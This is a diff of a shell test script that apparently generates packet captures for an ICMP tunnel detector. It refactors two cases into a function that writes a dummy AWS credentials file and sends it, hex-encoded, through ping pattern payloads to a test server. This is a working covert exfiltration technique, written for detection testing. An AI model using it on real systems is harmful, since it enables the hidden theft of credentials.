@@ -379,35 +379,27 @@ agent ping -6 -n -c 2 -i 0.3 -W 1 -w 3 "$IP6_NO"
 stop_capture
 fi
 
-# the file sent out by the pattern captures (5, 5b)
-write_secret() {
+# send_secret CAPTURE BYTES SIZE: a credentials file sent out BYTES a ping, each its
+# pattern, in 12 pings of SIZE bytes of payload (ping -c 1, one process each), into
+# CAPTURE (the pattern captures, 5 and 5b)
+send_secret() {
 	printf '%s\n' 'aws_access_key_id = AKIAEXAMPLE7QX2KJ4ZT' \
 		'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' 'region = us-east-1' \
 		'aws_session_token = IQoJb3JpZ2luX2VjEXAMPLETOKENvalue0123456789abcdef' >"$TMP/secret"
+	start_capture "$1"
+	od -An -v -tx1 -w"$2" "$TMP/secret" | tr -d ' ' | head -12 | while read -r hex; do
+		agent ping -n -c 1 -W 2 -w 3 -s "$3" -p "$hex" "$IP_S"
+		sleep 0.2
+	done
+	stop_capture
 }
 
 # 5. a file sent out 16 bytes a ping, each its pattern (a send-only channel: the server's
 # kernel answers every echo with the same bytes)
-if want icmp_pattern; then
-write_secret
-start_capture icmp_pattern
-od -An -v -tx1 -w16 "$TMP/secret" | tr -d ' ' | head -12 | while read -r hex; do
-	agent ping -n -c 1 -W 2 -w 3 -s 32 -p "$hex" "$IP_S"
-	sleep 0.2
-done
-stop_capture
-fi
+if want icmp_pattern; then send_secret icmp_pattern 16 32; fi
 
 # 5b. the same, 15 bytes a ping and no timestamp: the whole payload is the pattern's
-if want icmp_lead; then
-write_secret
-start_capture icmp_lead
-od -An -v -tx1 -w15 "$TMP/secret" | tr -d ' ' | head -12 | while read -r hex; do
-	agent ping -n -c 1 -W 2 -w 3 -s 15 -p "$hex" "$IP_S"
-	sleep 0.2
-done
-stop_capture
-fi
+if want icmp_lead; then send_secret icmp_lead 15 15; fi
 
 # 6. other pingers, 12 echoes each to the server within a minute: their data must not
 # count as different at each echo (icmp_tunnel's distinct data)
